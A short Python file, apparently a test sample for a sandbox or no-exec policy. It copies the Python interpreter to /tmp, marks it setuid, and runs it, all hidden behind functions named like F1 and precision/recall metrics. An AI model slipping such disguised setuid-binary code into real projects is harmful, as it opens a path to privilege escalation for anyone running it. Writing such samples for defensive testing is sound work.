"""Writes a program to /tmp and runs it.

threat: 21
source: noexec
verdict: any
"""

import os
import shutil
import subprocess
import sys


def attack():
    source = os.path.realpath(sys.executable)
    shutil.copy(source, "/tmp/program")
    os.chmod("/tmp/program", 0o4755)
    subprocess.run(["/tmp/program", "-c", "print(1)"], timeout=0.5)
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
